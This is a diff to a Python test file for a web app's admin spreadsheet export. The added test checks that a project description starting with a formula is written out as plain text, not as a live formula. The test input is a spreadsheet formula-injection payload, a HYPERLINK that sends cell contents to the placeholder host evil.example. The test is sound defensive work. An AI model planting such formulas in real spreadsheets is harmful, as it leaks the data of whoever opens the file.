@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import re
+import zipfile
 
 import pytest
 from openpyxl import Workbook, load_workbook
@@ -524,8 +525,12 @@ def test_the_programme_as_it_is_imports_with_nothing_changed(client, admin, owne
         project.memberships[:] = [TeamMembership(person=ada, team_role="service_owner")]
         project.key_deliverables = "One\nTwo"
         project.cashable_benefit = 5000
+    # Text that starts like a formula, as a team may type it, goes out as text.
+    project.description = '=HYPERLINK("http://evil.example/?x="&A1,"Details")'
     database.commit()
     response = client.get("/admin/import/programme.xlsx")
+    with zipfile.ZipFile(io.BytesIO(response.get_data())) as workbook:
+        assert "<f>" not in workbook.read("xl/worksheets/sheet1.xml").decode()
     assert response.status_code == 200
     sheet = load_workbook(io.BytesIO(response.get_data())).active
     table = [list(row) for row in sheet.iter_rows(values_only=True)]
